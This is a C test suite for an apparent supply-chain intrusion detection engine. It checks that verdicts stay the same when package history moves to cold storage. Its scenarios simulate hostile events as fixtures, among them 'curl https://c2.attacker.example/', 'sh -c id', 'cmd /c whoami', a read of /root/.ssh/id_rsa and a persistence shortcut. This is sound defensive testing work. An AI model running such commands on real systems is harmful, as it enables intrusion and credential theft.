/* SPDX-License-Identifier: Apache-2.0 */
/* What is in the store only changes no verdict, and comes back when something leads to it. */
#include "engine/engine.h"
#include "scene.h"

#include <stdio.h>
#include <stdlib.h>

typedef struct received {
	char *text;
	size_t length;
} received;

static received inbox;
static schain_store *store;
static uint64_t put_away, woken;

static int append(void *context, const char *data, size_t size)
{
	received *to = context;

	to->text = realloc(to->text, to->length + size + 1);
	memcpy(to->text + to->length, data, size);
	to->length += size;
	to->text[to->length] = 0;
	return 0;
}

static int receive(void *context, const schain_verdict *verdict)
{
	return schain_report_write_json(verdict, 0, append, context, NULL) != SCHAIN_OK;
}

/* All that can go to the store is there before each event. */
static int chill(void)
{
	ck_assert_int_eq(schain_engine_checkpoint(scene.engine, schain_string_of(NULL), NULL), SCHAIN_OK);
	schain__model_put_away(&scene.engine->model, 0);
	return 0;
}

static void open_engine(const scene_options *how, int is_cold)
{
	scene_options options = *how;

	options.verdict = receive;
	options.context = &inbox;
	scene_close();
	scene_open(&options);
	if (!is_cold)
		return;
	if (!store)
		ck_assert_int_eq(schain_store_new_memory(NULL, &store, NULL), SCHAIN_OK);
	ck_assert_int_eq(schain_engine_attach_store(scene.engine, store, NULL, NULL), SCHAIN_OK);
	scene.before = chill;
}

static void close_engine(void)
{
	scene_close();
	schain_store_free(store);
	store = NULL;
	scene_open(NULL);
}

/* What was told of a scenario. */
static char *run(void (*scenario)(void), const scene_options *how, int is_cold)
{
	char *text;

	memset(&inbox, 0, sizeof inbox);
	open_engine(how, is_cold);
	scenario();
	scene_flush();
	if (is_cold)
		chill();
	/* And what is open at the end. */
	ck_assert_int_eq(schain_engine_each_verdict(scene.engine, receive, &inbox, NULL), SCHAIN_OK);
	put_away = scene.engine->model.put_away;
	woken = scene.engine->model.woken;
	close_engine();
	text = inbox.text ? inbox.text : calloc(1, 1);
	return text;
}

/* Time that the clock believes, and processes whose exit was long ago go. */
static void tick(int64_t seconds)
{
	wait_for(seconds);
	for (uint64_t i = 0; i < 5; i++) {
		start(1, 9000 + i, "/usr/bin/true", NULL);
		end(9000 + i);
	}
}

static void compare(void (*scenario)(void), const scene_options *how, uint64_t least)
{
	char *warm = run(scenario, how, 0), *cold = run(scenario, how, 1);

	ck_assert_str_eq(cold, warm);
	ck_assert_ptr_nonnull(strstr(warm, "\"level\""));
	ck_assert_uint_ge(put_away, least);
	ck_assert_uint_ge(woken, least);
	free(warm);
	free(cold);
}

START_TEST(a_little_of_everything_is_judged_alike)
{
	compare(everything, &(scene_options){ 0 }, 0); /* its processes live on, and keep all in memory */
}
END_TEST

/* Delivered and run once; the first connection comes after two weeks of silence. */
static void dormant(void)
{
	start(1, 100, "/usr/bin/dpkg", NULL);
	package_event(100, SCHAIN_PACKAGE_UPDATE, "acme", "2.0", "1.9");
	write_to(100, "/opt/acme/agent");
	write_to(100, "/opt/acme/helper");
	end(100);
	start(1, 200, "/opt/acme/agent", NULL);
	end(200);
	for (int day = 0; day < 14; day++) {
		tick(86400);
		start(1, 1000 + (uint64_t)day, "/usr/bin/dpkg", NULL);
		write_to(1000 + (uint64_t)day, "/usr/bin/other");
		end(1000 + (uint64_t)day);
	}
	bad_update(5000, 6000, "/srv/unrelated/tool", "c2.attacker.example");
	start(1, 300, "/opt/acme/agent", NULL);
	start(300, 301, "/bin/sh", "sh -c id");
	start(301, 302, "/usr/bin/curl", "curl https://c2.attacker.example/");
	connect_to(302, "c2.attacker.example", "203.0.113.9", 443);
	read_from(300, "/root/.ssh/id_rsa");
	delete_file(300, "/opt/acme/helper");
	move_to(300, "/opt/acme/agent", "/opt/acme/agent.old");
	start(1, 400, "/opt/acme/agent.old", NULL);
	connect_to(400, "c2.attacker.example", "203.0.113.9", 8443);
}

START_TEST(what_slept_for_two_weeks_is_judged_alike)
{
	compare(dormant, &(scene_options){ 0 }, 1);
}
END_TEST

/* Below what makes a verdict, so that it goes to the store; claims then make one. */
static void weak(uint64_t number)
{
	char path[64];
	uint64_t base = 1000 * number;

	snprintf(path, sizeof path, "/opt/vendor%u/tool", (unsigned)number);
	start(1, base, "/usr/bin/dpkg", NULL);
	package_event(base, SCHAIN_PACKAGE_INSTALL, "vendor", "1.0", NULL);
	write_to(base, path);
	end(base);
	start_signed(1, base + 1, path, SCHAIN_SIGNATURE_VALID, "Vendor Example", "Vendor");
	connect_to(base + 1, "updates.vendor.example", "203.0.113.77", 443);
	end(base + 1);
	tick(3600);
}

static void claimed(void)
{
	scene.step = 60 * SCHAIN_SECOND;
	for (uint64_t i = 1; i <= 6; i++)
		weak(i);
	claim_on(SCHAIN_SUBJECT_DOMAIN, "Updates.Vendor.example", SCHAIN_FINDING_KNOWN_BAD, 0);
	claim_on(SCHAIN_SUBJECT_FILE, "/opt/vendor2/tool", SCHAIN_FINDING_KNOWN_BAD, 0);
	claim_on(SCHAIN_SUBJECT_SIGNER, "vendor example", SCHAIN_FINDING_KNOWN_BAD, 0);
	claim_on(SCHAIN_SUBJECT_ADDRESS, "203.0.113.77", SCHAIN_FINDING_KNOWN_BAD, 0);
	/* A file that is marked no more: the chain used it all the same. */
	delete_file(1, "/opt/vendor3/tool");
	claim_on(SCHAIN_SUBJECT_FILE, "/opt/vendor3/tool", SCHAIN_FINDING_KNOWN_BAD, 0);
}

START_TEST(a_claim_finds_what_is_in_the_store)
{
	compare(claimed, &(scene_options){ 0 }, 4);
}
END_TEST

/* The coarse path of a short name leads to the file in the store. */
static void short_name(void)
{
	start(1, 100, "C:\\Windows\\System32\\msiexec.exe", NULL);
	write_content(100, "C:\\Program Files\\Acme Updater\\updater.exe", SCHAIN_CONTENT_PE, 90000);
	end(100);
	tick(86400);
	start(1, 200, "C:\\PROGRA~1\\ACMEUP~1\\updater.exe", NULL);
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami");
	start(201, 202, "C:\\Windows\\System32\\curl.exe", "curl https://c2.attacker.example");
	connect_to(202, "c2.attacker.example", "203.0.113.9", 443);
	persist(200, "C:\\Users\\ann\\AppData\\x.lnk");
}

/* Its marks go, though nothing led to it before the log said that it was removed. */
static void removed(void)
{
	start(1, 100, "/usr/bin/dpkg", NULL);
	package_event(100, SCHAIN_PACKAGE_INSTALL, "acme", "1.0", NULL);
	write_to(100, "/opt/acme/agent");
	end(100);
	tick(3600);
	start(1, 101, "/usr/bin/dpkg", NULL);
	package_event(101, SCHAIN_PACKAGE_REMOVE, "acme", "1.0", NULL);
	end(101);
	bad_update(101, 200, "/opt/evil/agent", "c2.attacker.example");
	start(1, 300, "/opt/acme/agent", NULL);
	connect_to(300, "c2.attacker.example", "203.0.113.9", 443);
}

START_TEST(a_removed_package_is_found_in_the_store)
{
	compare(removed, &(scene_options){ 0 }, 1);
}
END_TEST

/* Of ten versions, each of which replaces the one before, every third runs. */
static void updated(void)
{
	for (uint64_t i = 0; i < 10; i++) {
		start(1, 100 + i, "/usr/bin/dpkg", NULL);
		package_event(100 + i, SCHAIN_PACKAGE_UPDATE, "acme", "2.0", "1.0");
		write_to(100 + i, "/opt/acme/agent");
		end(100 + i);
		if (i % 3 == 0) {
			start(1, 200 + i, "/opt/acme/agent", NULL);
			connect_to(200 + i, "updates.vendor.example", "203.0.113.77", 443);
			end(200 + i);
		}
		tick(3600);
	}
	/* An exited installer is remembered for a while, and its delivery with it. */
	tick(3 * 3600);
	tick(3 * 3600);
	/* Versions 0, 3 and 6 ran, and 9 did and is there. */
	ck_assert_uint_eq(scene.engine->model.deliveries.count + scene.engine->model.cold_deliveries, 4);
	claim_on(SCHAIN_SUBJECT_DOMAIN, "updates.vendor.example", SCHAIN_FINDING_KNOWN_BAD, 0);
	start(1, 300, "/opt/acme/agent", NULL);
	connect_to(300, "c2.attacker.example", "203.0.113.9", 443);
}

START_TEST(what_was_replaced_is_closed_in_the_store_as_well)
{
	compare(updated, &(scene_options){ 0 }, 4);
}
END_TEST

START_TEST(a_short_name_finds_what_is_in_the_store)
{
	compare(short_name, &(scene_options){ .os = SCHAIN_OS_WINDOWS }, 1);
}
END_TEST

static int keep(void *context, const char *data, size_t size)
{
	return append(context, data, size);
}

/* An export is the same wherever its parts are. */
START_TEST(what_is_in_the_store_is_exported)
{
	received warm = { NULL, 0 }, cold = { NULL, 0 };

	open_engine(&(scene_options){ 0 }, 1);
	scene.before = NULL;
	claimed();
	scene_flush();
	ck_assert_int_eq(schain_engine_export_host(scene.engine, SCHAIN_STRING("desk.example"), keep, &warm, NULL),
	                 SCHAIN_OK);
	chill();
	ck_assert_uint_ge(scene.engine->model.cold.count, 4);
	ck_assert_int_eq(schain_engine_export_host(scene.engine, SCHAIN_STRING("desk.example"), keep, &cold, NULL),
	                 SCHAIN_OK);
	ck_assert_uint_eq(cold.length, warm.length);
	ck_assert_mem_eq(cold.text, warm.text, warm.length);
	close_engine();
	free(warm.text);
	free(cold.text);
}
END_TEST

static int count_delivery(void *context, const schain_known_delivery *delivery)
{
	ck_assert_uint_ge(delivery->item_count, 1);
	++*(uint64_t *)context;
	return 0;
}

static int see_file(void *context, const schain_known_file *file)
{
	*(uint64_t *)context = file->delivery->serial;
	return 0;
}

START_TEST(what_is_looked_at_goes_back_to_the_store)
{
	uint64_t count = 0, serial = 0, cold;

	open_engine(&(scene_options){ 0 }, 1);
	weak(1);
	weak(2);
	scene_flush();
	chill();
	scene.before = NULL;
	cold = scene.engine->model.cold.count;
	ck_assert_uint_ge(cold, 2);
	ck_assert_int_eq(schain_engine_each_delivery(scene.engine, NULL, count_delivery, &count, NULL),
	                 SCHAIN_OK);
	ck_assert_uint_eq(count, cold + scene.engine->model.deliveries.count);
	ck_assert_uint_eq(scene.engine->model.cold.count, cold);
	ck_assert_int_eq(schain_engine_find_file(scene.engine, NULL, SCHAIN_STRING("/opt/vendor2/tool"),
	                                         see_file, &serial, NULL),
	                 SCHAIN_OK);
	ck_assert_uint_gt(serial, 0);
	ck_assert_int_eq(schain_engine_find_file(scene.engine, NULL, SCHAIN_STRING("/opt/vendor3/tool"),
	                                         see_file, &serial, NULL),
	                 SCHAIN_END);
	close_engine();
}
END_TEST

START_TEST(what_is_over_does_not_come_back)
{
	open_engine(&(scene_options){ 0 }, 1);
	weak(1);
	scene_flush();
	chill();
	scene.before = NULL;
	ck_assert_uint_eq(scene.engine->model.cold.count, 1);
	tick(40 * 86400);
	start(1, 70, "/opt/vendor1/tool", NULL);
	scene_flush();
	ck_assert_uint_eq(scene.engine->model.chains.count, 0);
	ck_assert_int_eq(schain_engine_checkpoint(scene.engine, schain_string_of(NULL), NULL), SCHAIN_OK);
	close_engine();
}
END_TEST

static schain_status fail_to_get(void *context, schain_string host, uint32_t kind, uint64_t id,
                                 schain_status (*take)(void *to, const void *data, size_t size), void *to,
                                 schain_error *error)
{
	(void)context;
	(void)host;
	(void)kind;
	(void)id;
	(void)take;
	(void)to;
	(void)error;
	return SCHAIN_E_IO;
}

/* What cannot be read is missed while that lasts, and counted; then it is found. */
START_TEST(a_store_that_cannot_be_read_is_asked_again)
{
	schain_status (*get)(void *, schain_string, uint32_t, uint64_t,
	                     schain_status (*)(void *, const void *, size_t), void *, schain_error *);
	schain_checkpoint checkpoint = { sizeof checkpoint, 0, 0, 0, 0, 0, 0, 0, { NULL, 0 }, 0 };

	open_engine(&(scene_options){ 0 }, 1);
	weak(1);
	scene_flush();
	chill();
	scene.before = NULL;
	ck_assert_uint_eq(scene.engine->model.cold.count, 1);
	get = store->get;
	store->get = fail_to_get;
	start(1, 70, "/opt/vendor1/tool", NULL);
	scene_flush();
	ck_assert_uint_eq(scene.engine->model.cold.count, 1);
	ck_assert_uint_ge(scene.engine->model.unread, 1);
	ck_assert_int_eq(schain_engine_get_checkpoint(scene.engine, &checkpoint, NULL), SCHAIN_OK);
	ck_assert_int_eq(checkpoint.status, SCHAIN_E_IO);
	store->get = get;
	start(1, 71, "/opt/vendor1/tool", NULL);
	scene_flush();
	ck_assert_uint_eq(scene.engine->model.cold.count, 0);
	ck_assert_uint_eq(scene.engine->model.deliveries.count, 1);
	close_engine();
}
END_TEST

/* What verdicts said of what could not be read. */
typedef struct missed {
	schain_time since;
	uint64_t deliveries;
	uint64_t verdicts;
} missed;

static int note_missed(void *context, const schain_verdict *verdict)
{
	missed *of = context;

	of->since = verdict->unread_since;
	of->deliveries = verdict->unread;
	of->verdicts++;
	return receive(&inbox, verdict);
}

static missed look_at_verdicts(void)
{
	missed of = { 0, 0, 0 };

	ck_assert_int_eq(schain_engine_each_verdict(scene.engine, note_missed, &of, NULL), SCHAIN_OK);
	return of;
}

/* A verdict of the same host says so, in its struct and as JSON; one of another host does not. */
START_TEST(a_verdict_says_what_could_not_be_read)
{
	schain_time since;
	missed of;

	memset(&inbox, 0, sizeof inbox);
	open_engine(&(scene_options){ 0 }, 1);
	weak(1);
	scene_flush();
	chill();
	scene.before = NULL;
	store->get = fail_to_get;
	since = scene.now;
	start(1, 70, "/opt/vendor1/tool", NULL);
	bad_update(101, 200, "/opt/evil/agent", "c2.attacker.example");
	scene_flush();
	of = look_at_verdicts();
	ck_assert_uint_eq(of.verdicts, 1);
	ck_assert_uint_ge(of.deliveries, 1);
	ck_assert_int_ge(of.since, since - 60 * SCHAIN_SECOND);
	ck_assert_int_le(of.since, scene.now);
	ck_assert_ptr_nonnull(strstr(inbox.text, "\"unread\""));
	/* Until it would be too old to matter. */
	tick(31 * 86400);
	bad_update(102, 300, "/opt/later/agent", "c2.attacker.example");
	of = look_at_verdicts();
	ck_assert_int_eq(of.since, 0);
	ck_assert_uint_eq(of.deliveries, 0);
	free(inbox.text);
	close_engine();
}
END_TEST

/* 300 packages from one vendor, whose signer is claimed to be bad: 256 come back, 44 are said to be left. */
START_TEST(a_claim_brings_back_so_many_and_says_how_many_are_left)
{
	enum { PACKAGES = 300 };
	missed of;

	memset(&inbox, 0, sizeof inbox);
	open_engine(&(scene_options){ 0 }, 1);
	scene.before = NULL;
	for (uint64_t i = 1; i <= PACKAGES; i++)
		weak(i);
	tick(3600);
	scene_flush();
	chill();
	ck_assert_uint_eq(scene.engine->model.cold.count, PACKAGES);
	claim_on(SCHAIN_SUBJECT_SIGNER, "vendor example", SCHAIN_FINDING_KNOWN_BAD, 0);
	scene_flush();
	ck_assert_uint_eq(scene.engine->model.woken, SCHAIN__COLD_WOKEN);
	ck_assert_uint_eq(scene.engine->model.unread, PACKAGES - SCHAIN__COLD_WOKEN);
	bad_update(101, 9200, "/opt/evil/agent", "c2.attacker.example");
	scene_flush();
	of = look_at_verdicts();
	ck_assert_uint_eq(of.deliveries, PACKAGES - SCHAIN__COLD_WOKEN);
	/* The rest is there as ever. */
	start(1, 71, "/opt/vendor299/tool", NULL);
	start(1, 72, "/opt/vendor1/tool", NULL);
	scene_flush();
	ck_assert_uint_eq(scene.engine->model.unread, PACKAGES - SCHAIN__COLD_WOKEN);
	free(inbox.text);
	close_engine();
}
END_TEST

typedef struct account {
	size_t made;    /* allocations asked for */
	size_t failing; /* number of the one that fails; 0: none */
	size_t live;    /* bytes that are out */
} account;

static account purse;

static void *reallocate(void *context, void *memory, size_t old_size, size_t size)
{
	void *fresh = ++purse.made == purse.failing ? NULL : realloc(memory, size);

	(void)context;
	if (fresh)
		purse.live += size - (memory ? old_size : 0);
	return fresh;
}

static void *allocate(void *context, size_t size)
{
	return reallocate(context, NULL, 0, size);
}

static void release(void *context, void *memory, size_t size)
{
	(void)context;
	purse.live -= memory ? size : 0;
	free(memory);
}

static const schain_allocator allocator = { sizeof allocator, 0, allocate, reallocate, release, NULL };

static uint64_t known_deliveries(void)
{
	return scene.engine->model.deliveries.count + scene.engine->model.cold_deliveries;
}

/* To the store, back, looked at, exported, and to the store again. */
static void back_and_forth(void)
{
	received bytes = { NULL, 0 };
	uint64_t count = 0;

	start(1, 70, "/opt/vendor1/tool", NULL);
	end(70);
	scene_flush();
	schain_engine_checkpoint(scene.engine, schain_string_of(NULL), NULL);
	schain__model_put_away(&scene.engine->model, 0);
	schain_engine_each_delivery(scene.engine, NULL, count_delivery, &count, NULL);
	schain_engine_export_host(scene.engine, SCHAIN_STRING("desk.example"), keep, &bytes, NULL);
	free(bytes.text);
}

/* Returns how many allocations it takes. */
static size_t go_back_and_forth(size_t failing)
{
	size_t made;

	purse = (account){ 0, 0, 0 };
	open_engine(&(scene_options){ .allocator = &allocator }, 1);
	scene.before = NULL;
	weak(1);
	weak(2);
	tick(3600);
	scene_flush();
	chill();
	ck_assert_uint_eq(scene.engine->model.cold_deliveries, 2);
	scene.keep_going = 1;
	purse.made = 0;
	purse.failing = failing;
	back_and_forth();
	made = purse.made;
	purse.failing = 0;
	scene.keep_going = 0;
	/* Memory is back: both are there, and a claim finds them wherever they are. */
	chill();
	ck_assert_msg(known_deliveries() == 2, "after allocation %zu", failing);
	start(1, 71, "/opt/vendor2/tool", NULL);
	claim_on(SCHAIN_SUBJECT_DOMAIN, "updates.vendor.example", SCHAIN_FINDING_KNOWN_BAD, 0);
	scene_flush();
	ck_assert_msg(scene.engine->model.cold_deliveries == 0, "after allocation %zu", failing);
	close_engine();
	ck_assert_msg(!purse.live, "allocation %zu leaves %zu bytes", failing, purse.live);
	return made;
}

START_TEST(each_allocation_failing_in_turn_loses_nothing_that_is_cold)
{
	size_t total = go_back_and_forth(0);

	ck_assert_uint_gt(total, 30);
	for (size_t number = 1; number <= total; number++)
		go_back_and_forth(number);
}
END_TEST

int main(void)
{
	const scene_test tests[] = {
		{ "verdicts", a_little_of_everything_is_judged_alike },
		{ "verdicts", what_slept_for_two_weeks_is_judged_alike },
		{ "verdicts", a_claim_finds_what_is_in_the_store },
		{ "verdicts", a_removed_package_is_found_in_the_store },
		{ "verdicts", a_short_name_finds_what_is_in_the_store },
		{ "verdicts", what_was_replaced_is_closed_in_the_store_as_well },
		{ "store", what_is_in_the_store_is_exported },
		{ "store", what_is_looked_at_goes_back_to_the_store },
		{ "store", what_is_over_does_not_come_back },
		{ "store", a_store_that_cannot_be_read_is_asked_again },
		{ "store", a_verdict_says_what_could_not_be_read },
		{ "store", a_claim_brings_back_so_many_and_says_how_many_are_left },
		{ "store", each_allocation_failing_in_turn_loses_nothing_that_is_cold },
		{ NULL, NULL },
	};

	return scene_run("what is in the store only", tests);
}
